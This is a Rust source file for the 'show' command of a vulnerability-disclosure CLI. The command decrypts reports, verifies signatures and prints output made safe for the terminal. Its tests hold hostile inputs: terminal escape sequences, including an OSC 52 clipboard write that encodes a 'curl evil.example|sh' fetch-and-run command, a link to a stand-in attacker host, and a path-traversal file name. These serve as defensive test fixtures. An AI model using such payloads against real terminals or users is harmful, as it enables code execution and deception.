//! `sealdrop show`: download a report, decrypt it here, rerun the policy's field rules on it,
//! print it with its follow-up messages and save its text, JSON and attachments in a private
//! folder. Each message's signature is checked: the reporter's against the reply key inside the
//! decrypted report (never the one the server hands out), staff replies against the pinned keys.
//!
//! Neither a hostile reporter nor a compromised server gets at the staff machine through what is
//! printed or written: every line goes through [`Screen`] ([`output::terminal_safe`]: no escape
//! sequence, carriage return or bidirectional control of theirs reaches the terminal), and every
//! file through [`write_new`] (a new file, a direct child of the output folder, under a plain
//! name; the files keep the exact bytes).

use std::io::Write;
use std::path::{Path, PathBuf};

use sealdrop_shared::api::endpoint;
use sealdrop_shared::envelope::Signature;
use sealdrop_shared::followup::{Author, Message, MessageList};
use sealdrop_shared::id::CaseId;
use sealdrop_shared::key::RecipientKey;
use sealdrop_shared::received::Opened;
use sealdrop_shared::staff::NoteList;

use super::{Context, case_id, decrypted_report, pretty, safe_file_name, write_new};
use crate::decrypt::{DecryptWith, Unlocked};
use crate::error::CliError;
use crate::output::{self, Screen, terminal_safe};
use crate::{private, trust};

/// `sealdrop show`'s arguments.
#[derive(Debug, clap::Args)]
pub struct Args {
    /// Case id.
    #[arg(value_parser = case_id)]
    pub id: CaseId,
    /// How to decrypt.
    #[command(flatten)]
    pub decrypt: DecryptWith,
    /// Folder for report.txt, report.json and the attachments (default: ./sealdrop-ID).
    #[arg(long, value_name = "DIR")]
    pub out: Option<PathBuf>,
}

/// Shows the report; a report that breaks the policy's rules is shown, flagged, and fails with
/// [`CliError::InvalidReport`]. Everything the server sends is read (and its ids parsed) before
/// anything is written, so an answer the API would never give stops here with nothing on disk;
/// every file is written through [`write_new`], every line printed through [`Screen`].
pub fn run(args: Args, cx: &Context, stdout: &mut impl Write) -> Result<(), CliError> {
    let decryptor = args.decrypt.decryptor(cx.default_key.clone())?;
    let id = args.id;
    let out = args.out.unwrap_or_else(|| PathBuf::from(format!("sealdrop-{id}")));
    let client = &cx.client;
    let record = client.call(&endpoint::StaffRecord { id: id.clone() }, &())?;
    let policy = client.call(&endpoint::Policy {}, &())?;
    let list = client.call(&endpoint::StaffMessages { id: id.clone() }, &())?;
    let notes = client.call(&endpoint::StaffNotes { id: id.clone() }, &())?;
    let served = trust::check_served(&policy, &cx.pins);
    let unlocked = decryptor.unlock()?;
    let plaintext = decrypted_report(cx, &id, &unlocked, &policy)?;
    let limit = sealdrop_shared::envelope::plaintext_limit(&policy);
    let mut screen = Screen::new(stdout, output::colour_stdout());
    screen.line(&output::record_lines(&record))?;
    let opened = match sealdrop_shared::received::open(&policy, &plaintext) {
        Ok(opened) => opened,
        Err(e) => {
            // Decrypted, but not what the widget builds (e.g. a message sent with gpg by hand):
            // show it as it is, flagged, and keep the bytes.
            print_foreign(&mut screen, &e.to_string(), &plaintext)?;
            private::create_dir(&out, false)?;
            let path = write_new(&out, "decrypted.bin", &plaintext)?;
            eprintln!("sealdrop: saved {}", terminal_safe(&path.display().to_string()));
            return Err(CliError::InvalidReport(1));
        }
    };
    let text = report_text(&policy.organisation.name, &opened);
    print_report(&mut screen, &opened, &text)?;

    private::create_dir(&out, false)?;
    let mut saved = vec![
        write_new(&out, "report.txt", text.as_bytes())?,
        write_new(&out, "report.json", pretty(&opened.decrypted.json)?.as_bytes())?,
    ];
    for attachment in &opened.decrypted.attachments {
        saved.push(write_new(&out, &safe_file_name(&attachment.name), &attachment.bytes)?);
    }
    // The reporter's key as the report itself carries it: the server cannot change that copy.
    let reply_key = opened.decrypted.json.reply_key.as_deref().and_then(|k| RecipientKey::parse(k).ok());
    let signers = Signers { staff: trust::staff_signers(&served, &cx.pins), pinned: !cx.pins.is_empty(), reply_key };
    saved.extend(messages(&list, &unlocked, limit, &signers, &out, &mut screen)?);
    internal_notes(&notes, &unlocked, limit, &signers, &mut screen)?;
    eprintln!("sealdrop: saved {} files in {}", saved.len(), terminal_safe(&out.display().to_string()));
    for path in &saved {
        eprintln!("  {}", terminal_safe(&path.display().to_string()));
    }
    let problems = opened.verdict.as_ref().err().map_or(0, Vec::len) + opened.inconsistencies.len();
    if problems > 0 { Err(CliError::InvalidReport(problems)) } else { Ok(()) }
}

/// Prints a decrypted message that is not a report the widget made, flagged, as it is (made
/// inert: the bytes are saved, not printed).
fn print_foreign<W: Write>(screen: &mut Screen<'_, W>, why: &str, plaintext: &[u8]) -> std::io::Result<()> {
    screen.warning(&format!("WARNING: this is not a report made by the Sealdrop widget ({why}); shown as sent:"))?;
    screen.line("")?;
    screen.line(&String::from_utf8_lossy(plaintext))
}

/// The report's readable text, as saved in report.txt: rendered from the checked fields, or, for
/// a report that breaks the rules, the text part exactly as the reporter's client sent it.
fn report_text(organisation: &str, opened: &Opened) -> String {
    match &opened.verdict {
        Ok(report) => sealdrop_shared::mime::render_text(organisation, report),
        Err(_) => opened.decrypted.text.clone().unwrap_or_default(),
    }
}

/// Prints the report: what breaks the rules and what is inconsistent (flagged), then `text`.
fn print_report<W: Write>(screen: &mut Screen<'_, W>, opened: &Opened, text: &str) -> std::io::Result<()> {
    if let Err(errors) = &opened.verdict {
        screen.warning("WARNING: this report breaks the policy's rules:")?;
        for e in errors {
            screen.line(&format!("  - {}: {}", e.field, e.problem))?;
        }
        screen.line("")?;
    }
    for problem in &opened.inconsistencies {
        screen.warning(&format!("WARNING: {problem}"))?;
    }
    screen.line(text)
}

/// Whose signatures count on a case's messages.
struct Signers<'a> {
    /// Staff replies: the served keys that are pinned (every served key when nothing is pinned).
    staff: Vec<&'a RecipientKey>,
    /// Whether anything is pinned.
    pinned: bool,
    /// The reporter's messages: the reply key inside the decrypted report.
    reply_key: Option<RecipientKey>,
}

impl Signers<'_> {
    fn of(&self, author: Author) -> Vec<&pgp::composed::SignedPublicKey> {
        match author {
            Author::Staff => self.staff.iter().map(|k| k.inner()).collect(),
            Author::Reporter => self.reply_key.iter().map(RecipientKey::inner).collect(),
        }
    }
}

/// What a message's signature tells the reader.
#[derive(Debug, PartialEq, Eq)]
enum Verdict {
    /// Signed by whom it should be.
    Good(String),
    /// Anything else, said as a `WARNING: …`.
    Warning(String),
}

const REPORTER_WARNING: &str = "WARNING: not signed by the reporter's reply key — the server, or anyone holding the lookup token, could have written this";
const STAFF_WARNING: &str =
    "WARNING: not signed by a pinned organisation or staff key — the server could have written this";

fn verdict(author: Author, signature: &Signature, signers: &Signers<'_>) -> Verdict {
    match (author, signature) {
        (Author::Reporter, _) if signers.reply_key.is_none() => {
            Verdict::Warning(format!("{REPORTER_WARNING} (the report carries no reply key to check it against)"))
        }
        (Author::Reporter, Signature::Valid(f)) => {
            Verdict::Good(format!("signed by the reporter's reply key {}", f.short()))
        }
        (Author::Reporter, Signature::Unsigned) => {
            Verdict::Warning(format!("{REPORTER_WARNING} (it carries no signature)"))
        }
        (Author::Reporter, Signature::Invalid) => {
            Verdict::Warning(format!("{REPORTER_WARNING} (it is signed, but not by that key)"))
        }
        (Author::Staff, Signature::Valid(f)) => {
            let who = signers
                .staff
                .iter()
                .find(|k| &k.fingerprint() == f)
                .and_then(|k| k.user_ids().into_iter().next())
                .map(|u| format!(" ({u})"))
                .unwrap_or_default();
            if signers.pinned {
                Verdict::Good(format!("signed by {}{who}", f.short()))
            } else {
                Verdict::Warning(format!(
                    "WARNING: signed by {}{who}, a key the server serves; nothing is pinned, so this proves nothing \
                     against the server (run `sealdrop pin`)",
                    f.short()
                ))
            }
        }
        (Author::Staff, Signature::Unsigned) => Verdict::Warning(format!("{STAFF_WARNING} (it carries no signature)")),
        (Author::Staff, Signature::Invalid) => {
            Verdict::Warning(format!("{STAFF_WARNING} (it is signed, but not by a pinned key)"))
        }
    }
}

/// Prints the follow-up messages of a case, decrypted and their signatures checked, and saves
/// their files (as `MESSAGE-ID-NAME`); returns the paths.
fn messages<W: Write>(
    list: &MessageList,
    unlocked: &Unlocked,
    limit: u64,
    signers: &Signers<'_>,
    out: &Path,
    screen: &mut Screen<'_, W>,
) -> Result<Vec<PathBuf>, CliError> {
    let mut saved = Vec::new();
    for message in &list.messages {
        let opened = unlocked.open(message.armored.as_bytes(), &signers.of(message.author), limit).and_then(|opened| {
            let parts =
                sealdrop_shared::mime::parse_message(&opened.data).map_err(|e| CliError::Decrypt(e.to_string()))?;
            Ok((opened.signature, parts))
        });
        match opened {
            Ok((signature, parts)) => {
                let verdict = verdict(message.author, &signature, signers);
                print_message(screen, &message_header(message), Ok((&verdict, &parts.text)))?;
                for file in &parts.attachments {
                    let path = write_new(out, &format!("{}-{}", message.id, safe_file_name(&file.name)), &file.bytes)?;
                    screen.line(&format!("[attached: {}]", path.display()))?;
                    saved.push(path);
                }
            }
            Err(e) => print_message(screen, &message_header(message), Err(&e.to_string()))?,
        }
    }
    Ok(saved)
}

/// Prints the internal notes of a case, decrypted, each signature checked against the pinned
/// staff keys (a note is written like a staff reply).
fn internal_notes<W: Write>(
    list: &NoteList,
    unlocked: &Unlocked,
    limit: u64,
    signers: &Signers<'_>,
    screen: &mut Screen<'_, W>,
) -> Result<(), CliError> {
    for note in &list.notes {
        let header = format!("internal note by {}, {} ({})", terminal_safe(&note.author), note.at, note.id);
        let opened = unlocked.open(note.armored.as_bytes(), &signers.of(Author::Staff), limit).and_then(|opened| {
            let parts =
                sealdrop_shared::mime::parse_message(&opened.data).map_err(|e| CliError::Decrypt(e.to_string()))?;
            Ok((opened.signature, parts))
        });
        match opened {
            Ok((signature, parts)) => {
                print_message(screen, &header, Ok((&verdict(Author::Staff, &signature, signers), &parts.text)))?
            }
            Err(e) => print_message(screen, &header, Err(&e.to_string()))?,
        }
    }
    Ok(())
}

/// The header of a follow-up message.
fn message_header(message: &Message) -> String {
    let who = match message.author {
        Author::Staff => "staff reply",
        Author::Reporter => "message from the reporter",
    };
    format!("{who}, {} ({})", message.at, message.id)
}

/// Prints one message or note: its header, then who signed it and its text, or why it cannot be
/// read.
fn print_message<W: Write>(
    screen: &mut Screen<'_, W>,
    header: &str,
    shown: Result<(&Verdict, &str), &str>,
) -> std::io::Result<()> {
    screen.line(&format!("\n--- {header} ---"))?;
    match shown {
        Ok((verdict, text)) => {
            match verdict {
                Verdict::Good(line) => screen.good(line)?,
                Verdict::Warning(line) => screen.warning(line)?,
            }
            screen.line(text.trim_end())
        }
        Err(e) => screen.line(&format!("(cannot be decrypted here: {e})")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn signatures_are_judged_by_who_should_have_signed() {
        let org =
            RecipientKey::parse(include_str!("../../../examples/policies/nimbus-cloud/security.asc")).expect("key");
        let reply = RecipientKey::parse(include_str!("../../../tests/fixtures/keys/stranger.pub.asc")).expect("key");
        let (o, r) = (org.fingerprint(), reply.fingerprint());
        let signers = |pinned: bool, reply_key: Option<&RecipientKey>| Signers {
            staff: vec![&org],
            pinned,
            reply_key: reply_key.cloned(),
        };
        // (author, signature, pinned, reply key known, Ok(good line starts) / Err(warning contains))
        type Case = (Author, Signature, bool, bool, Result<&'static str, &'static str>);
        let cases: Vec<Case> = vec![
            (Author::Reporter, Signature::Valid(r.clone()), true, true, Ok("signed by the reporter's reply key ")),
            (
                Author::Reporter,
                Signature::Unsigned,
                true,
                true,
                Err("could have written this (it carries no signature)"),
            ),
            (Author::Reporter, Signature::Invalid, true, true, Err("(it is signed, but not by that key)")),
            (Author::Reporter, Signature::Unsigned, true, false, Err("carries no reply key")),
            (Author::Staff, Signature::Valid(o.clone()), true, true, Ok("signed by ")),
            (Author::Staff, Signature::Valid(o.clone()), false, true, Err("nothing is pinned")),
            (Author::Staff, Signature::Unsigned, true, true, Err("not signed by a pinned organisation or staff key")),
            (Author::Staff, Signature::Invalid, true, true, Err("but not by a pinned key")),
        ];
        for (author, signature, pinned, known, expected) in cases {
            let what = format!("{author:?} {signature:?} pinned={pinned} reply key known={known}");
            match (verdict(author, &signature, &signers(pinned, known.then_some(&reply))), expected) {
                (Verdict::Good(line), Ok(start)) => assert!(line.starts_with(start), "{what}: {line}"),
                (Verdict::Warning(line), Err(needle)) => {
                    assert!(line.starts_with("WARNING: ") && line.contains(needle), "{what}: {line}")
                }
                (got, expected) => panic!("{what}: got {got:?}, expected {expected:?}"),
            }
        }
        let line = verdict(Author::Reporter, &Signature::Valid(r.clone()), &signers(true, Some(&reply)));
        assert_eq!(line, Verdict::Good(format!("signed by the reporter's reply key {}", r.short())));
        let line = verdict(Author::Staff, &Signature::Valid(o.clone()), &signers(true, None));
        assert_eq!(
            line,
            Verdict::Good(format!(
                "signed by {} (Nimbus Cloud Security (TEST KEY - DO NOT USE) <security@nimbus.example>)",
                o.short()
            ))
        );
    }

    /// What a hostile reporter (or a compromised server) writes: a screen clear, an OSC 52
    /// clipboard write, an OSC 8 link, a carriage-return overwrite, a one-byte CSI, DEL, RLO.
    const HOSTILE: &str = "A\x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\\
                           \rfake\u{9b}31m\u{7f}\u{202e}txt.exe";

    /// A report entity as the widget builds it (text part, report.json, files), by hand, so it can
    /// carry what the widget never would.
    fn entity(text: &str, fields: serde_json::Value, files: &[(&str, &[u8])]) -> Vec<u8> {
        let policy = policy();
        let mut draft = fields;
        draft["attachments"] = files
            .iter()
            .map(|(name, bytes)| serde_json::json!({"name": name, "size": bytes.len(), "media_type": "text/plain"}))
            .collect();
        let json = serde_json::json!({"format": sealdrop_shared::mime::REPORT_FORMAT, "organisation": "Nimbus",
            "key_fingerprint": policy.key.fingerprint.as_str(), "fields": draft});
        // 8bit parts: the bytes as they are.
        let mut out = String::from("Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n");
        out += &format!("--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n");
        out += &format!(
            "--b\r\nContent-Type: application/json\r\nContent-Disposition: attachment; filename=\"report.json\"\r\n\r\n{json}\r\n"
        );
        for (name, bytes) in files {
            let encoded: String = name.bytes().map(|b| format!("%{b:02X}")).collect();
            out += &format!(
                "--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename*=utf-8''{encoded}\r\n\r\n{}\r\n",
                String::from_utf8_lossy(bytes)
            );
        }
        (out + "--b--\r\n").into_bytes()
    }

    fn policy() -> sealdrop_shared::policy::PublicPolicy {
        let path = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/policies/nimbus-cloud/policy.toml"));
        crate::commands::pin::load_policy(path).expect("example policy").public
    }

    /// The example policy as a compromised server might serve it: the organisation's name is text
    /// the server chose, and the rendered report starts with it.
    fn hostile_policy() -> sealdrop_shared::policy::PublicPolicy {
        let mut policy = policy();
        policy.organisation.name = HOSTILE.to_owned();
        policy
    }

    fn valid(title: &str) -> serde_json::Value {
        serde_json::json!({"title": title, "affected": "https://billing.nimbus.example/invoices?q=1",
            "description": "The q parameter is concatenated into SQL.", "steps": "1. Search.\n2. See.",
            "impact": "Every invoice.", "contact": "researcher@example.org", "consent": true})
    }

    /// Everything `show` prints for `plaintext` and one message of each kind, with `colour`.
    fn printed(plaintext: &[u8], colour: bool) -> Vec<u8> {
        let policy = hostile_policy();
        let record = serde_json::json!({"id": "01KAY8R5S7X0V3M2QJ4N6T8W9A", "received_at": "2026-11-23T10:00:00+00:00",
            "respond_by": "2026-11-26T23:59:59+01:00", "status": "acknowledged", "acknowledged_at": null,
            "expected_resolution": null, "reward": HOSTILE, "credit": {"name": HOSTILE, "link": null, "published": false},
            "size": 100, "sha256": "00", "notified_at": null, "reminded_at": null, "escalated_at": null});
        let record: sealdrop_shared::staff::CaseRecord = serde_json::from_value(record).expect("a record");
        let message: Message = serde_json::from_value(serde_json::json!({"id": "01KAY8R5S7X0V3M2QJ4N6T8W9B",
            "at": "2026-11-24T09:15:00+00:00", "author": "reporter", "armored": HOSTILE}))
        .expect("a message");
        let mut out = Vec::new();
        let mut screen = Screen::new(&mut out, colour);
        screen.line(&output::record_lines(&record)).expect("printed");
        match sealdrop_shared::received::open(&policy, plaintext) {
            Ok(opened) => {
                let text = report_text(&policy.organisation.name, &opened);
                print_report(&mut screen, &opened, &text).expect("printed");
            }
            Err(e) => print_foreign(&mut screen, &format!("{e}: {HOSTILE}"), plaintext).expect("printed"),
        }
        let warning = Verdict::Warning(format!("WARNING: signed by {HOSTILE}"));
        let good = Verdict::Good(format!("signed by {HOSTILE}"));
        print_message(&mut screen, &message_header(&message), Ok((&warning, HOSTILE))).expect("printed");
        print_message(&mut screen, &message_header(&message), Ok((&good, HOSTILE))).expect("printed");
        print_message(&mut screen, &message_header(&message), Err(HOSTILE)).expect("printed");
        screen
            .line(&format!("[attached: {}]", Path::new("out").join(safe_file_name(HOSTILE)).display()))
            .expect("printed");
        out
    }

    #[test]
    fn what_show_prints_carries_no_control_character_of_the_reporter_or_the_server() {
        let file: &[u8] = b"\x1b[2Jbytes of the file";
        let cases: Vec<(&str, Vec<u8>)> = vec![
            // Breaks the rules (control characters, out of scope): the raw text part is shown.
            (
                "a report that breaks the rules",
                entity(
                    &format!("Title: {HOSTILE}\n"),
                    serde_json::json!({"title": HOSTILE, "affected": format!("https://{HOSTILE}/"),
                        "description": HOSTILE, "consent": false}),
                    &[(HOSTILE, file), ("../../.bashrc\u{202e}exe.txt", file)],
                ),
            ),
            // Passes the rules, served with a hostile organisation name, with an attachment the
            // form does not list: rendered text and an inconsistency.
            ("a valid report", {
                let mut bytes = entity("ignored", valid("Stored XSS"), &[("poc.html", file)]);
                let extra = format!(
                    "--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"{HOSTILE}\"\r\n\r\nx\r\n--b--\r\n"
                );
                bytes.truncate(bytes.len() - "--b--\r\n".len());
                bytes.extend_from_slice(extra.as_bytes());
                bytes
            }),
            // Not a report at all: shown as sent.
            ("not a report", HOSTILE.as_bytes().to_vec()),
        ];
        for (what, plaintext) in &cases {
            let plain = printed(plaintext, false);
            output::assert_inert(&plain, what);
            let text = String::from_utf8_lossy(&plain);
            assert!(text.contains("A\\x1b[2J\\x1b]52;c;"), "{what}: the escapes are visible\n{text}");
            let coloured = printed(plaintext, true);
            let mut rest = String::from_utf8_lossy(&coloured).into_owned();
            for own in ["\x1b[32m", "\x1b[1;31m", "\x1b[0m"] {
                assert!(rest.contains(own), "{what}: {own:?} is used");
                rest = rest.replace(own, "");
            }
            output::assert_inert(rest.as_bytes(), &format!("{what}, coloured, without show's own colours"));
        }
        // What is saved keeps the exact bytes: report.txt of the report that breaks the rules.
        let policy = hostile_policy();
        let opened = sealdrop_shared::received::open(&policy, &cases[0].1).expect("a report");
        assert!(opened.verdict.is_err());
        assert_eq!(report_text(&policy.organisation.name, &opened), format!("Title: {HOSTILE}\n"));
        assert_eq!(opened.decrypted.attachments[0].name, HOSTILE);
        let opened = sealdrop_shared::received::open(&policy, &cases[1].1).expect("a report");
        assert!(opened.verdict.is_ok(), "{:?}", opened.verdict);
        assert!(
            report_text(&policy.organisation.name, &opened)
                .starts_with(&format!("Vulnerability report for {HOSTILE}\n"))
        );
        assert!(!opened.inconsistencies.is_empty());
    }
}
